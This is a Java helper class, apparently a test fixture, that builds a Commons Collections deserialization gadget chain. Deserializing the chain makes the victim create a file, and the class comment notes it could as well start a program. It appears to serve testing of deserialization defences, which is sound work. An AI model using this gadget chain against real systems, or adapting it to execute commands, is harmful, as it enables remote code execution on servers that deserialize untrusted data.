package io.github.hazelcastjetty.sample.cluster;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.HashSet;
import java.util.Map;
import java.util.Set;

import org.apache.commons.collections.functors.InvokerTransformer;
import org.apache.commons.collections.keyvalue.TiedMapEntry;
import org.apache.commons.collections.map.LazyMap;

/**
 * Bytes of a well-known attack: a set that asks its element for a hash code when it is
 * deserialized, an element that asks a map for that, and a map that calls a method to
 * have an answer. Here the method creates a file, it could as well start a program.
 */
final class Gadget {

	private Gadget() {
	}

	/**
	 * Builds one that creates a file, as Java serializes it.
	 */
	static byte[] thatCreates(Path file) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
			out.writeObject(objectThatCreates(file));
			out.flush();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	/**
	 * Builds one that creates a file, to be serialized by others.
	 */
	@SuppressWarnings("unchecked")
	static Object objectThatCreates(Path file) {
		Map<Object, Object> answers = new HashMap<>();
		Set<Object> set = new HashSet<>();
		set.add(new TiedMapEntry(LazyMap.decorate(answers, new InvokerTransformer("createNewFile", null, null)),
				file.toFile()));
		// It has worked while it was built
		answers.clear();
		try {
			Files.delete(file);
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return set;
	}

}
